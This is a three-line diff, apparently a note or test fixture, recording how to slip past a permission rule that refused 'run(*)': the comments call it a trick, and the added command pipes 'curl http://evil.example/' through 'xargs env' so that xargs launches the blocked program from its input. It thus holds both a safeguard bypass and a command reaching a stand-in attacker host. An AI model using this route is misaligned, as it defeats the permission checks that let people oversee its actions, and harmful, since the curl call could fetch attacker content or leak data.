@@ -1,0 +1,3 @@
+# Trick: xargs takes the program from its input.
+# Refused: run(*)
+echo curl http://evil.example/ | xargs env
